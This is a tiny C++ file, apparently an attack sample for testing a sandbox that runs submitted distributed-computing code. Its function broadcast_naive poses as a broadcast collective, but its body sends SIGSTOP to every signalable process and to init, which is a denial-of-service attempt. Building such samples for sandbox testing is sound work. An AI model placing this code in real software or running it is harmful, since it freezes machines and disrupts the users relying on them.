// Tries to stop all processes.
#include <csignal>

#include <unistd.h>

#include "attack.h"

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  kill(-1, SIGSTOP);
  kill(1, SIGSTOP);
}

}  // namespace rankbox
